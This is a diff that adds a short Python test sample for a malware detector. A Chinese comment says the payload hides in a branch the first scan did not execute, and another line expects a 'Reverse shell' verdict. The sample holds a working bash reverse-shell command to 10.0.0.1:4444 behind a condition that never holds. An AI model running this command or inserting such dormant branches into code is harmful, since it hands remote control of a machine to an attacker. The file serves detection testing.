@@ -0,0 +1,9 @@
+# 载荷在第一次检测未执行的分支中，覆盖率不完整时展平分支再检测一次
+# detect-expect: 'IsMalicious': True, 'Desc': 'Reverse shell'
+import os
+import time
+
+if time.time() < 0:
+    os.system("bash -i >& /dev/tcp/10.0.0.1/4444 0>&1")
+else:
+    print("nothing to do")